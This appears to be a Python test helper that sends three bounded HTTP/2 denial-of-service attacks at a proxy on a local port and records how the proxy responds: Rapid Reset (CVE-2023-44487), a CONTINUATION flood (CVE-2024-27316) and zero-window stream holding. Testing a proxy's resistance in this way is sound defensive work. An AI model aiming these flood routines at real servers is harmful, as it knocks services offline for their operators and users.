"""HTTP/2 attacks, sent with the `h2` package on one TLS connection, each bounded in count and time.
Each returns what happened on that connection, as the tests assert it.
"""

import ssl
import time
from dataclasses import dataclass, field

import h2.config
import h2.connection
import h2.events
import h2.settings
from hpack import Encoder

from tests.support.tls import unverified_connection

REQUEST = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/")]


@dataclass
class Outcome:
    # Whether the proxy ended the connection (GOAWAY or close) before the attack was over.
    ended_by_proxy: bool = False
    # What the attack sent before that: frames or streams, as each attack counts.
    sent: int = 0
    # The proxy's SETTINGS (MAX_CONCURRENT_STREAMS and others).
    settings: dict[int, int] = field(default_factory=dict)
    # Streams the proxy refused or reset.
    reset: int = 0


def connect(port: int, timeout: float) -> ssl.SSLSocket:
    tls = unverified_connection(port, "h2", timeout)
    assert tls.selected_alpn_protocol() == "h2", tls.selected_alpn_protocol()
    return tls


def start(tls: ssl.SSLSocket, **settings: int) -> h2.connection.H2Connection:
    connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    connection.initiate_connection()
    if settings:
        connection.update_settings(
            {getattr(h2.settings.SettingCodes, k): v for k, v in settings.items()}
        )
    tls.sendall(connection.data_to_send())
    return connection


def read_events(
    tls: ssl.SSLSocket, connection: h2.connection.H2Connection, outcome: Outcome
) -> bool:
    """Read what the proxy sent, if anything; False once it has ended the connection."""
    try:
        data = tls.recv(65536)
    except (TimeoutError, BlockingIOError, ssl.SSLWantReadError):
        return True
    except (ConnectionResetError, BrokenPipeError, ssl.SSLError):
        return False
    if not data:
        return False
    for event in connection.receive_data(data):
        if isinstance(event, h2.events.RemoteSettingsChanged):
            outcome.settings.update({k: v.new_value for k, v in event.changed_settings.items()})
        elif isinstance(event, h2.events.StreamReset):
            outcome.reset += 1
        elif isinstance(event, h2.events.ConnectionTerminated):
            return False
    tls.sendall(connection.data_to_send())
    return True


def rapid_reset(port: int, streams: int) -> Outcome:
    """Open streams and reset each at once (CVE-2023-44487), as fast as the proxy reads them."""
    outcome = Outcome()
    with connect(port, timeout=10) as tls:
        connection = start(tls)
        tls.settimeout(0.001)
        try:
            for _ in range(streams):
                stream = connection.get_next_available_stream_id()
                connection.send_headers(stream, REQUEST, end_stream=True)
                connection.reset_stream(stream)
                tls.sendall(connection.data_to_send())
                outcome.sent += 1
                if not read_events(tls, connection, outcome):
                    outcome.ended_by_proxy = True
                    break
        except (ConnectionResetError, BrokenPipeError, ssl.SSLError):
            outcome.ended_by_proxy = True
    return outcome


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
    )


def continuation_flood(port: int, frames: int) -> Outcome:
    """A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames of
    16 KiB of headers each (CVE-2024-27316 and its kind)."""
    outcome = Outcome()
    encoder = Encoder()
    with connect(port, timeout=10) as tls:
        connection = start(tls)
        tls.sendall(frame(0x1, 0x1, 1, encoder.encode(REQUEST)))  # HEADERS, END_STREAM only
        block = encoder.encode([("x-flood", "a" * 16000)])
        try:
            for _ in range(frames):
                tls.sendall(frame(0x9, 0x0, 1, block))  # CONTINUATION, no END_HEADERS
                outcome.sent += 1
                tls.settimeout(0.001)
                if not read_events(tls, connection, outcome):
                    outcome.ended_by_proxy = True
                    break
        except (ConnectionResetError, BrokenPipeError, ssl.SSLError, TimeoutError):
            outcome.ended_by_proxy = True
    return outcome


def zero_window(port: int, streams: int, path: str, seconds: float) -> Outcome:
    """Ask for large answers with a flow-control window of 0, never opened: each stream holds its
    answer in the proxy for as long as the proxy lets it. `sent` is the streams opened."""
    outcome = Outcome()
    with connect(port, timeout=10) as tls:
        connection = start(tls, INITIAL_WINDOW_SIZE=0)
        request = [*REQUEST[:3], (":path", path)]
        tls.settimeout(0.05)
        for _ in range(streams):
            connection.send_headers(
                connection.get_next_available_stream_id(), request, end_stream=True
            )
            outcome.sent += 1
        tls.sendall(connection.data_to_send())
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            if not read_events(tls, connection, outcome):
                outcome.ended_by_proxy = True
                break
    return outcome
